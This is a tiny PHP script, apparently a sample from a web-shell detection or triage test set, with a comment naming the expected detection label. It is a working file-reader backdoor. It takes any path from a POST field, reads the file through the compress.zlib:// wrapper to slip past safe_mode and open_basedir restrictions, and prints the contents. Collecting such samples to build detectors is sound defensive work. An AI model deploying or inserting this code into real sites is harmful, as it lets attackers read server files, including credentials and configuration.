<?php
// triage-expect: triage_php_zlib_wrapper_reader
// Reads any file through the zlib wrapper, past old safe_mode and open_basedir checks.
$f = $_POST['f'];
$tmp = tempnam('/tmp', 'z');
copy('compress.zlib://' . $f, $tmp);
echo htmlspecialchars(file_get_contents($tmp));
unlink($tmp);
